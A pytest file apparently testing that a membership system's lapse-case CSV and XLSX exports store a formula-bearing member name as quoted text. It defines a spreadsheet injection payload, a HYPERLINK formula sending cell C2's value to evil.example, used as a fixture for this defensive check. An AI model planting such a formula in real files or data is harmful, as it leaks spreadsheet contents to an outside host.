"""The lapse export (csv and xlsx) holds names as text: no formula, no refused character."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from flowmember.lapse.api import EXPORT_COLUMNS

HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2,"x")'


@pytest.fixture
def formula_case(api, tree, make_member, dues_history, freeze):
    """An open case of a member whose name is a formula with a control character in it."""
    freeze("2026-11-30")
    member = make_member(
        org=tree.branch, name="\x07" + HYPERLINK, category="other", joined_on=date(2015, 6, 1)
    )
    dues_history(member, first="2026-01", last="2026-11", paid_through="2026-04")
    response = api.as_(tree.admin).post("/sweeps/lapse", json={"as_of": "2026-11-30"})
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["opened"] == 1
    return member


def test_the_csv_export_quotes_a_formula(api, tree, formula_case):
    response = api.as_(tree.admin).get("/lapse-cases/export?format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    header, row = csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
    assert header == list(EXPORT_COLUMNS)
    assert row[header.index("member")] == "'" + HYPERLINK


def test_the_xlsx_export_holds_a_formula_as_text(api, tree, formula_case):
    response = api.as_(tree.admin).get("/lapse-cases/export?format=xlsx")
    assert response.status_code == 200
    header, row = load_workbook(io.BytesIO(response.data)).active.iter_rows()
    name = row[[c.value for c in header].index("member")]
    assert (name.data_type, name.value) == ("s", "'" + HYPERLINK)
